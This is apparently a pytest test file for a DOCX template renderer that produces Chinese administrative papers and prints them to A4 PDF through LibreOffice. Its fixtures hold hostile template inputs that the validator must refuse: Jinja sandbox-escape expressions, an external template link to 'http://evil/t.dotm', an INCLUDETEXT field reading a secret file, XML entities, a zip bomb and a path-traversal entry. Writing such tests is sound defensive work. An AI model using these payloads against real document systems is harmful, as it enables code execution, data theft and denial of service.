"""Making papers: what a template may hold, what stands in the document, and the PDF that LibreOffice prints."""

from __future__ import annotations

import io
import zipfile

import pikepdf
import pytest

from adapters.papers.maker import DocxMaker
from adapters.sanitising.runner import ProcessSanitiser, find_soffice
from models.papers.fields import example_values
from models.papers.kinds import PaperKind, paper_kind, paper_kinds
from models.ports import TemplateRefused
from tests.support.papers import WRITTEN, a_template, rewritten, text_of

MAKER = DocxMaker(ProcessSanitiser(""))
KIND = paper_kind("report_result")


@pytest.fixture(scope="module")
def soffice() -> str:
    found = find_soffice("soffice")
    if not found:
        pytest.skip("LibreOffice is not installed")
    return found


def _values(kind: PaperKind) -> dict[str, str]:
    values = example_values(dict.fromkeys(kind.field_names, ""))
    return {**values, "文号": f"平市监{kind.word}〔2026〕12号", "机关名称": "演示市市场监督管理局"}


def _findings(template: bytes) -> str:
    with pytest.raises(TemplateRefused) as refused:
        MAKER.check(KIND, template)
    return "\n".join(refused.value.findings)


@pytest.mark.parametrize("kind", list(paper_kinds().values()), ids=lambda kind: kind.id)
def test_our_own_templates_pass_the_check_and_say_everything(kind: PaperKind) -> None:
    template = MAKER.default_template(kind)
    MAKER.check(kind, template)
    told = text_of(MAKER.render(kind, template, _values(kind)))
    assert "{" not in told
    assert f"平市监{kind.word}〔2026〕12号" in told
    for one in (*(field.name for field in kind.own_fields), *kind.filer):
        assert f"（{one}）" in told, one


def test_what_is_written_is_text_and_nothing_else() -> None:
    template = a_template("{{ 文号 }}", "{{ 处理结果 }}")
    document = MAKER.render(KIND, template, {**_values(KIND), "处理结果": WRITTEN})
    assert text_of(document).endswith(WRITTEN)


def test_a_document_says_nobody_wrote_it() -> None:
    document = MAKER.render(KIND, MAKER.default_template(KIND), _values(KIND))
    core = zipfile.ZipFile(io.BytesIO(document)).read("docProps/core.xml").decode()
    assert "python-docx" not in core


@pytest.mark.parametrize(
    ("words", "told"),
    [
        ("{{ 案件编号 }}", "没有名为“案件编号”的字段"),
        ("{{ 姓名 }}", "没有名为“姓名”的字段"),  # this kind may not name the filer
        ("{{ 文号.__class__ }}", "不能用“.__class__”"),
        ("{{ 文号['x'] }}", "不能用“[ ]”"),
        ("{{ 文号|upper }}", "不能用"),
        ("{% for 字 in 文号 %}x{% endfor %}", "不能用“循环”"),
        ("{{ cycler.__init__ }}", "没有名为“cycler”的字段"),
        ("{{ 文号() }}", "不能用“函数”"),
        ("{{ 9 ** 99999999 }}", "不能用"),
        ("{{ 文号", "写法有误"),
        ("{% if 文号 %}没有结束", "写法有误"),
    ],
)
def test_braces_hold_fields_only(words: str, told: str) -> None:
    assert told in _findings(a_template("{{ 登记编号 }}", words))


def test_a_field_in_pieces_is_still_found() -> None:
    """Word splits what one types into runs."""
    whole = a_template("{{ 案件编号 }}")
    split = rewritten(
        whole,
        lambda name, content: (
            content.replace("案件编号".encode(), "案件</w:t></w:r><w:r><w:t>编号".encode())
            if name == "word/document.xml"
            else content
        ),
        {},
    )
    assert "案件编号" in _findings(split)


def _linked(name: str, content: bytes) -> bytes:
    link = b'<Relationship Id="rIdX" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
    return (
        content.replace(b"</Relationships>", link + b"</Relationships>")
        if name.endswith(".rels")
        else content
    )


def _with_entity(name: str, content: bytes) -> bytes:
    if name != "word/document.xml":
        return content
    return b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + content.split(b"?>", 1)[-1]


def _with_include(name: str, content: bytes) -> bytes:
    field = b'<w:r><w:instrText>INCLUDETEXT "C:\\\\secret.docx"</w:instrText></w:r></w:p>'
    return content.replace(b"</w:p>", field, 1) if name == "word/document.xml" else content


def _same(_name: str, content: bytes) -> bytes:
    return content


@pytest.mark.parametrize(
    ("template", "told"),
    [
        (b"no zip at all", "不是 Word"),
        (rewritten(a_template("x"), _same, {"word/vbaProject.bin": b"x"}), "宏"),
        (rewritten(a_template("x"), _same, {"word/embeddings/oleObject1.bin": b"x"}), "嵌入的对象"),
        (rewritten(a_template("x"), _linked, {}), "引用了外面的内容"),
        (rewritten(a_template("x"), _with_include, {}), "INCLUDETEXT"),
        (rewritten(a_template("x"), _with_entity, {}), "不是有效的 XML"),
        (rewritten(a_template("x"), _same, {"word/big.xml": b"0" * 6_000_000}), "展开后过大"),
        (rewritten(a_template("x"), _same, {"../outside.xml": b"<x/>"}), "名称不正常"),
    ],
    ids=["zip", "macro", "object", "link", "field", "entity", "bomb", "path"],
)
def test_a_package_holds_nothing_active_and_nothing_from_outside(template: bytes, told: str) -> None:
    assert told in _findings(template)


def test_a_paper_is_printed_on_a4(soffice: str) -> None:
    printer = DocxMaker(ProcessSanitiser(soffice))
    pdf = printer.as_pdf(printer.render(KIND, printer.default_template(KIND), _values(KIND)))
    assert pdf is not None
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        box = [round(float(side)) for side in opened.pages[0].mediabox]
        assert (len(opened.pages), box) == (1, [0, 0, 595, 842])


def test_a_register_is_one_page_and_its_signature_stands_on_it(soffice: str) -> None:
    printer, kind = DocxMaker(ProcessSanitiser(soffice)), paper_kind("complaint_register")
    long = {
        "事实": "2026年11月12日，在该店购买保温杯一只，标有“演示”商标，做工粗糙，包装印刷模糊。\n店员承认不是正品。",
        "链接": f"https://item.example.com/item?id={'1234567890' * 5}",
        "住址": "平顶山市新华区演示路987号演示小区3号楼2单元1201室，收件人电话见上",
        "证据清单": "\n".join(f"照片{number}.jpg（SHA-256 {'3a7bd3e2' * 8}）" for number in (1, 2)),
    }
    pdf = printer.as_pdf(printer.render(kind, printer.default_template(kind), {**_values(kind), **long}))
    assert pdf is not None
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        assert len(opened.pages) == 1


def test_without_libreoffice_there_is_no_pdf() -> None:
    assert MAKER.as_pdf(MAKER.default_template(KIND)) is None
